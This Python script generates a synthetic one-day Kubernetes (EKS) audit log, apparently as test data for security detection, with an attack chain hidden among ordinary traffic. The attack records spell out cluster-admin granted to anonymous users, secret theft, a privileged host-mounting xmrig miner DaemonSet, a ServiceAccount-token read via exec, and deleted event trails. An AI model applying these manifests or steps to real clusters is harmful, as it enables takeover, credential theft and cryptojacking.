#!/usr/bin/env python3
"""Writes examples/audit/day-of-traffic.jsonl: one day (2024-03-12 UTC) of an EKS cluster's audit log,
ordinary traffic with an attack chain inside it. Deterministic (seeded): rerun after changing it and
commit the output. Every event is modelled on what EKS's API server writes; no real data is in it.

Ordinary: kubelets and controllers heart-beating, CoreDNS and the VPC CNI watching, a CI deployer
rolling out the shop twice, people using kubectl in working hours (one of them execs into a shop pod),
load-balancer health probes as system:anonymous, an app whose RBAC is missing getting 403s, the EKS
add-ons' DaemonSets (privileged by design) rolling.

The runtime half (examples/runtime/, written by runtime_events.py) follows the same pods through the
day, and at 14:40 an attacker exploits the shop's web pod: a shell from nginx, the ServiceAccount token
read, a miner downloaded and run, a mining pool and a C&C server contacted; at 14:46 the token is used
from the threat-listed address to list the shop's secrets.

The attack (14:00-14:30): dev credentials of "bob" used from a Tor exit, discovery and secret reads,
a ClusterRoleBinding giving system:anonymous cluster-admin, anonymous reads of kube-system secrets from
an address on the threat list, admin for the shop's default ServiceAccount, a privileged DaemonSet
mounting the node's root in kube-system, exec into a kube-system pod, the Kubernetes Dashboard exposed
through a LoadBalancer, and the trail deleted.
"""
import json
import random
import uuid
from datetime import datetime, timedelta, timezone

rng = random.Random(20240312)
DAY = datetime(2024, 3, 12, tzinfo=timezone.utc)
NODES = ["ip-10-0-1-23.ec2.internal", "ip-10-0-2-47.ec2.internal", "ip-10-0-3-81.ec2.internal"]
ECR = "602401143452.dkr.ecr.us-east-1.amazonaws.com"
SHOP_ECR = "111122223333.dkr.ecr.us-east-1.amazonaws.com"
TOR_EXIT = "185.220.101.4"
THREAT_IP = "203.0.113.66"
OFFICE_IP = "198.51.100.10"
events = []


def stamp(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def uid():
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def user(name, groups, session=None, uid_=None):
    u = {"username": name, "groups": groups + ["system:authenticated"]}
    if uid_:
        u["uid"] = uid_
    if session:
        u["extra"] = {"sessionName": [session], "accessKeyId": ["ASIAEXAMPLE" + session.upper()[:8]]}
    return u


def sa(namespace, name):
    return user(f"system:serviceaccount:{namespace}:{name}",
                ["system:serviceaccounts", f"system:serviceaccounts:{namespace}"], uid_=uid())


def node(n):
    return user(f"system:node:{n}", ["system:nodes"])


ANONYMOUS = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
ALICE = user("alice", ["platform-admins"], session="alice@example.com")
CARLOS = user("carlos", ["developers"], session="carlos@example.com")
BOB = user("bob", ["developers"], session="bob@example.com")
CI = user("ci-deployer", ["deployers"], session="github-actions-4711")
KUBECTL = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"


def event(t, who, verb, uri, ip, agent, code, resource=None, namespace=None, name=None, subresource=None,
          group="", version="v1", level="Metadata", request=None, response=None, stage="ResponseComplete",
          decision="allow"):
    ref = None
    if resource:
        ref = {"resource": resource, "apiVersion": version}
        if group:
            ref["apiGroup"] = group
        if namespace:
            ref["namespace"] = namespace
        if name:
            ref["name"] = name
        if subresource:
            ref["subresource"] = subresource
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": uid(), "stage": stage,
         "requestURI": uri, "verb": verb, "user": who, "sourceIPs": [ip], "userAgent": agent}
    if ref:
        e["objectRef"] = ref
    e["responseStatus"] = {"metadata": {}, "code": code}
    if code >= 400:
        e["responseStatus"].update({"status": "Failure", "reason": "Forbidden" if code == 403 else "NotFound"})
    if request is not None:
        e["requestObject"] = request
    if response is not None:
        e["responseObject"] = response
    e["requestReceivedTimestamp"] = stamp(t)
    e["stageTimestamp"] = stamp(t + timedelta(milliseconds=rng.randint(2, 40)))
    e["annotations"] = {"authorization.k8s.io/decision": decision,
                        "authorization.k8s.io/reason": "" if decision == "forbid" else "RBAC: allowed"}
    events.append((t, e))
    return e


def pod_object(name, namespace, image, owner_kind, owner_name, node_name=None, privileged=False,
               host_paths=(), service_account="default", host_network=False):
    volumes = [{"name": f"host-{i}", "hostPath": {"path": p, "type": ""}} for i, p in enumerate(host_paths)]
    mounts = [{"name": f"host-{i}", "mountPath": f"/host{p if p != '/' else ''}" or "/host"} for i, p in enumerate(host_paths)]
    container = {"name": name.split("-")[0], "image": image, "resources": {}, "imagePullPolicy": "IfNotPresent"}
    if privileged:
        container["securityContext"] = {"privileged": True}
    if mounts:
        container["volumeMounts"] = mounts
    spec = {"containers": [container], "serviceAccountName": service_account, "restartPolicy": "Always"}
    if volumes:
        spec["volumes"] = volumes
    if host_network:
        spec["hostNetwork"] = True
    if node_name:
        spec["nodeName"] = node_name
    return {"kind": "Pod", "apiVersion": "v1",
            "metadata": {"name": name, "namespace": namespace, "uid": uid(),
                         "ownerReferences": [{"apiVersion": "apps/v1", "kind": owner_kind, "name": owner_name,
                                              "uid": uid(), "controller": True, "blockOwnerDeletion": True}]},
            "spec": spec}


def suffix(n):
    return "".join(rng.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(n))


# ---------------------------------------------------------------- ordinary traffic, all day
t = DAY
while t < DAY + timedelta(days=1):
    for n in NODES:
        tt = t + timedelta(seconds=rng.randint(0, 299))
        event(tt, node(n), "update", f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{n}",
              n.replace("ip-", "").replace(".ec2.internal", "").replace("-", "."), "kubelet/v1.29.0-eks-5e0fdde (linux/amd64) kubernetes/5e0fdde",
              200, "leases", "kube-node-lease", n, group="coordination.k8s.io")
        event(tt + timedelta(seconds=1), node(n), "patch", f"/api/v1/nodes/{n}/status?timeout=10s",
              n.replace("ip-", "").replace(".ec2.internal", "").replace("-", "."), "kubelet/v1.29.0-eks-5e0fdde (linux/amd64) kubernetes/5e0fdde",
              200, "nodes", None, n, subresource="status")
    event(t + timedelta(seconds=rng.randint(0, 299)), user("system:kube-controller-manager", []), "update",
          "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-controller-manager?timeout=5s", "10.0.0.12",
          "kube-controller-manager/v1.29.0 (linux/amd64) kubernetes/5e0fdde/leader-election", 200, "leases", "kube-system",
          "kube-controller-manager", group="coordination.k8s.io")
    event(t + timedelta(seconds=rng.randint(0, 299)), sa("kube-system", "coredns"), "watch",
          "/api/v1/endpoints?allowWatchBookmarks=true&resourceVersion=91234&watch=true", "10.0.2.90",
          "coredns/v1.11.1 (linux/amd64) kubernetes/5e0fdde", 200, "endpoints")
    event(t + timedelta(seconds=rng.randint(0, 299)), sa("kube-system", "aws-node"), "list", "/api/v1/pods?limit=500",
          "10.0.1.23", "aws-node/v1.16.0 (linux/amd64) kubernetes/5e0fdde", 200, "pods")
    # Load-balancer health probes are anonymous by design.
    for path in ("/healthz", "/readyz", "/livez", "/version"):
        if rng.random() < 0.5:
            event(t + timedelta(seconds=rng.randint(0, 299)), ANONYMOUS, "get", path, "10.0.0.5",
                  "ELB-HealthChecker/2.0", 200)
    # An app whose Role is missing a verb keeps asking.
    if rng.random() < 0.3:
        event(t + timedelta(seconds=rng.randint(0, 299)), sa("shop", "reports"), "list",
              "/api/v1/namespaces/shop/configmaps", "10.0.3.15", "reports/1.4.2", 403, "configmaps", "shop",
              decision="forbid")
    t += timedelta(minutes=5)

# People, in working hours, from the office VPN (private) or the office's public address.
for hour in range(8, 18):
    for person, ip in ((ALICE, "10.20.4.17"), (CARLOS, OFFICE_IP)):
        for _ in range(rng.randint(3, 8)):
            tt = DAY + timedelta(hours=hour, minutes=rng.randint(0, 59), seconds=rng.randint(0, 59))
            ns = rng.choice(["shop", "shop", "payments", "monitoring"])
            kind = rng.choice(["pods", "pods", "deployments", "services", "events", "configmaps"])
            grp = "apps" if kind == "deployments" else ""
            ver = "v1"
            base = f"/apis/apps/v1" if grp else "/api/v1"
            event(tt, person, "list", f"{base}/namespaces/{ns}/{kind}?limit=500", ip, KUBECTL, 200, kind, ns,
                  group=grp, version=ver)
            if rng.random() < 0.3:
                pod = f"web-6f7d9c8b5-{suffix(5)}"
                event(tt + timedelta(seconds=3), person, "get", f"/api/v1/namespaces/{ns}/pods/{pod}/log?container=web",
                      ip, KUBECTL, 200, "pods", ns, pod, subresource="log")

# Alice debugs a shop pod: exec outside kube-system is routine here.
pod = "web-6f7d9c8b5-x7k2p"
event(DAY + timedelta(hours=10, minutes=42), ALICE, "create",
      f"/api/v1/namespaces/shop/pods/{pod}/exec?command=sh&container=web&stdin=true&stdout=true&tty=true",
      "10.20.4.17", KUBECTL, 101, "pods", "shop", pod, subresource="exec", level="Request", stage="ResponseStarted")


def rollout(at, namespace, deployment, image, replicas=3):
    """The CI deployer patches a Deployment; the controllers make a ReplicaSet and its pods."""
    template_hash = suffix(9).lower()
    rs = f"{deployment}-{template_hash}"
    names = []
    event(at, CI, "patch", f"/apis/apps/v1/namespaces/{namespace}/deployments/{deployment}?fieldManager=kubectl-client-side-apply",
          "10.0.9.14", "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", 200, "deployments", namespace, deployment,
          group="apps", level="Request",
          request={"spec": {"template": {"spec": {"containers": [{"name": deployment, "image": image}]}}}})
    event(at + timedelta(seconds=1), sa("kube-system", "deployment-controller"), "create",
          f"/apis/apps/v1/namespaces/{namespace}/replicasets", "10.0.0.12",
          "kube-controller-manager/v1.29.0 (linux/amd64) kubernetes/5e0fdde/system:serviceaccount:kube-system:deployment-controller",
          201, "replicasets", namespace, group="apps", level="RequestResponse",
          request={"kind": "ReplicaSet", "apiVersion": "apps/v1",
                   "metadata": {"name": rs, "namespace": namespace,
                                "ownerReferences": [{"kind": "Deployment", "name": deployment, "controller": True}]},
                   "spec": {"replicas": replicas, "template": {"spec": {"containers": [{"name": deployment, "image": image}]}}}})
    for i in range(replicas):
        name = f"{rs}-{suffix(5)}"
        names.append(name)
        obj = pod_object(name, namespace, image, "ReplicaSet", rs, service_account=deployment)
        event(at + timedelta(seconds=2 + i), sa("kube-system", "replicaset-controller"), "create",
              f"/api/v1/namespaces/{namespace}/pods", "10.0.0.12",
              "kube-controller-manager/v1.29.0 (linux/amd64) kubernetes/5e0fdde/system:serviceaccount:kube-system:replicaset-controller",
              201, "pods", namespace, level="RequestResponse", request=obj, response=obj)
        event(at + timedelta(seconds=3 + i), user("system:kube-scheduler", []), "create",
              f"/api/v1/namespaces/{namespace}/pods/{name}/binding", "10.0.0.12",
              "kube-scheduler/v1.29.0 (linux/amd64) kubernetes/5e0fdde/scheduler", 201, "pods", namespace, name,
              subresource="binding")
    return names


WEB_PODS = rollout(DAY + timedelta(hours=9, minutes=30), "shop", "web", f"{SHOP_ECR}/shop/web:2024.03.12-1")
WEB_PODS_LATER = rollout(DAY + timedelta(hours=15, minutes=5), "shop", "web", f"{SHOP_ECR}/shop/web:2024.03.12-2")
LEDGER_PODS = rollout(DAY + timedelta(hours=11, minutes=20), "payments", "ledger", f"{SHOP_ECR}/payments/ledger:7.2.0", replicas=2)

# The EKS add-ons roll their DaemonSets after an upgrade: privileged and host-mounted by design.
for i, n in enumerate(NODES):
    at = DAY + timedelta(hours=3, minutes=10, seconds=20 * i)
    for ds, image, paths in (("aws-node", f"{ECR}/amazon-k8s-cni:v1.16.0-eksbuild.1", ["/opt/cni/bin", "/etc/cni/net.d", "/var/run/aws-node"]),
                             ("kube-proxy", f"{ECR}/eks/kube-proxy:v1.29.0-minimal-eksbuild.1", ["/lib/modules", "/run/xtables.lock", "/var/log"])):
        name = f"{ds}-{suffix(5)}"
        obj = pod_object(name, "kube-system", image, "DaemonSet", ds, node_name=n, privileged=True,
                         host_paths=paths, service_account=ds, host_network=True)
        event(at, sa("kube-system", "daemon-set-controller"), "create", "/api/v1/namespaces/kube-system/pods",
              "10.0.0.12", "kube-controller-manager/v1.29.0 (linux/amd64) kubernetes/5e0fdde/system:serviceaccount:kube-system:daemon-set-controller",
              201, "pods", "kube-system", level="RequestResponse", request=obj, response=obj)

# ---------------------------------------------------------------- the attack, 14:00-14:30
A = DAY + timedelta(hours=14)
BOB_AGENT = "kubectl/v1.28.4 (linux/amd64) kubernetes/bae2c62"
event(A + timedelta(minutes=0, seconds=5), BOB, "list", "/api/v1/namespaces/shop/pods?limit=500", TOR_EXIT, BOB_AGENT, 200, "pods", "shop")
event(A + timedelta(minutes=0, seconds=40), BOB, "list", "/api/v1/namespaces/shop/secrets?limit=500", TOR_EXIT, BOB_AGENT, 200, "secrets", "shop")
event(A + timedelta(minutes=1, seconds=10), BOB, "get", "/api/v1/namespaces/shop/secrets/stripe-api-key", TOR_EXIT, BOB_AGENT, 200, "secrets", "shop", "stripe-api-key")
binding = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
           "metadata": {"name": "system:kube-debug"},
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
           "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "system:anonymous"}]}
event(A + timedelta(minutes=3), BOB, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", TOR_EXIT, BOB_AGENT, 201,
      "clusterrolebindings", group="rbac.authorization.k8s.io", level="RequestResponse", request=binding, response=binding)
ATTACK_AGENT = "python-requests/2.31.0"
event(A + timedelta(minutes=5), ANONYMOUS, "list", "/api/v1/namespaces/kube-system/secrets", THREAT_IP, ATTACK_AGENT, 200, "secrets", "kube-system")
event(A + timedelta(minutes=5, seconds=30), ANONYMOUS, "list", "/api/v1/nodes", THREAT_IP, ATTACK_AGENT, 200, "nodes")
sa_binding = {"kind": "RoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
              "metadata": {"name": "shop-default-admin", "namespace": "shop"},
              "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
              "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "shop"}]}
event(A + timedelta(minutes=7), ANONYMOUS, "create", "/apis/rbac.authorization.k8s.io/v1/namespaces/shop/rolebindings", THREAT_IP,
      ATTACK_AGENT, 201, "rolebindings", "shop", group="rbac.authorization.k8s.io", level="RequestResponse",
      request=sa_binding, response=sa_binding)
miner = {"kind": "DaemonSet", "apiVersion": "apps/v1",
         "metadata": {"name": "node-metrics-agent", "namespace": "kube-system"},
         "spec": {"selector": {"matchLabels": {"app": "node-metrics-agent"}},
                  "template": {"metadata": {"labels": {"app": "node-metrics-agent"}},
                               "spec": {"hostPID": True, "hostNetwork": True,
                                        "containers": [{"name": "agent", "image": "docker.io/xmrig/xmrig:6.21.0",
                                                        "command": ["/bin/sh", "-c"], "args": ["xmrig -o pool.minexmr.example:4444"],
                                                        "securityContext": {"privileged": True},
                                                        "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                                        "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}}}}
event(A + timedelta(minutes=10), BOB, "create", "/apis/apps/v1/namespaces/kube-system/daemonsets", THREAT_IP, BOB_AGENT, 201,
      "daemonsets", "kube-system", group="apps", level="RequestResponse", request=miner)
for i, n in enumerate(NODES):
    name = f"node-metrics-agent-{suffix(5)}"
    obj = pod_object(name, "kube-system", "docker.io/xmrig/xmrig:6.21.0", "DaemonSet", "node-metrics-agent", node_name=n,
                     privileged=True, host_paths=["/"], host_network=True)
    event(A + timedelta(minutes=10, seconds=2 + i), sa("kube-system", "daemon-set-controller"), "create",
          "/api/v1/namespaces/kube-system/pods", "10.0.0.12",
          "kube-controller-manager/v1.29.0 (linux/amd64) kubernetes/5e0fdde/system:serviceaccount:kube-system:daemon-set-controller",
          201, "pods", "kube-system", level="RequestResponse", request=obj, response=obj)
event(A + timedelta(minutes=14), BOB, "create",
      "/api/v1/namespaces/kube-system/pods/coredns-5d8d9f7b4c-h2x9q/exec?command=sh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=coredns&stdout=true",
      THREAT_IP, BOB_AGENT, 101, "pods", "kube-system", "coredns-5d8d9f7b4c-h2x9q", subresource="exec", level="Request",
      stage="ResponseStarted")
dashboard = {"kind": "Service", "apiVersion": "v1",
             "metadata": {"name": "kubernetes-dashboard", "namespace": "kubernetes-dashboard",
                          "labels": {"k8s-app": "kubernetes-dashboard"}},
             "spec": {"type": "LoadBalancer", "ports": [{"port": 443, "targetPort": 8443}],
                      "selector": {"k8s-app": "kubernetes-dashboard"}}}
event(A + timedelta(minutes=20), BOB, "patch", "/api/v1/namespaces/kubernetes-dashboard/services/kubernetes-dashboard",
      TOR_EXIT, BOB_AGENT, 200, "services", "kubernetes-dashboard", "kubernetes-dashboard", level="RequestResponse",
      request={"spec": {"type": "LoadBalancer"}}, response=dashboard)
event(A + timedelta(minutes=26), ANONYMOUS, "deletecollection", "/api/v1/namespaces/kube-system/events", THREAT_IP,
      ATTACK_AGENT, 200, "events", "kube-system")

# The audit half of the runtime attack (examples/runtime/): the token read inside the shop's web pod
# at 14:40 is used from outside at 14:46 to list the shop's secrets.
event(A + timedelta(minutes=46), sa("shop", "web"), "list", "/api/v1/namespaces/shop/secrets", THREAT_IP,
      "curl/8.5.0", 200, "secrets", "shop")

events.sort(key=lambda pair: pair[0])
with open("examples/audit/day-of-traffic.jsonl", "w") as out:
    for _, e in events:
        out.write(json.dumps(e, separators=(",", ":")) + "\n")
print(f"{len(events)} audit events")

import runtime_events  # noqa: E402  (the runtime half shares the pods and the attack's timeline)
runtime_events.generate(DAY, NODES, SHOP_ECR, WEB_PODS, WEB_PODS_LATER, LEDGER_PODS)
